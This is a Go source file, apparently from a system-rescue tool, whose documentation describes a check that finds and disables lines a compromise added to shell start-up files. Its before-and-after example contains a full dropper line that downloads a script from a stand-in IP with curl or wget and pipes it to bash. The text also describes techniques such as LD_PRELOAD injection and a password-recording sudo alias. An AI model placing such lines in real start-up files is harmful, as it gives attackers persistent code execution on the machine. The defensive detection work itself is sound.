// Package startup finds what a compromise added to shell start-up files.
package startup

const doc = `shell start-up files (profile, profile.d, bashrc of every user) that download into a shell or start hidden programs

A line in /etc/profile.d, /etc/bash.bashrc or a user's ~/.bashrc runs
whenever someone logs in: droppers add one that fetches their script again
("curl -fsSL http://…/x.sh | bash"), starts the miner from a hidden
directory, exports LD_PRELOAD with their library, or aliases sudo to a
program that records the password. The check reads, without running
anything, /etc/profile, /etc/profile.d/*.sh, /etc/bash.bashrc, /etc/bashrc,
the zsh and ksh files in /etc, the files in /etc/skel that new users get,
and in every home directory .bashrc, .bash_profile, .bash_login, .profile,
.bash_logout, .bash_aliases, .zshrc, .zprofile, .zshenv, .zlogin, .kshrc.

A file a package installed and nobody changed is not looked into. The
others are parsed as shell, statement by statement; a statement is
reported only when it is marked (a download or decoded base64 fed to a
shell, a program in a world-writable or hidden place, a miner, a program no
package installed where packages put theirs, a preloaded library no package
installed, an alias whose command is any of those). Sourcing ~/.bash_aliases
or ~/.cargo/env is ordinary.

The fix comments out the lines of the statement ("# disabled by rescue:
startup: …") and quarantines what it runs that no package installed and
that is marked.

Before (/root/.bashrc):

  export PATH=$PATH:/root/bin
  (curl -fsSL http://192.0.2.7/s.sh||wget -q -O- http://192.0.2.7/s.sh)|bash >/dev/null 2>&1 &

After:

  export PATH=$PATH:/root/bin
  # disabled by rescue: startup: (curl -fsSL http://192.0.2.7/s.sh||wget -q -O- http://192.0.2.7/s.sh)|bash >/dev/null 2>&1 &
`
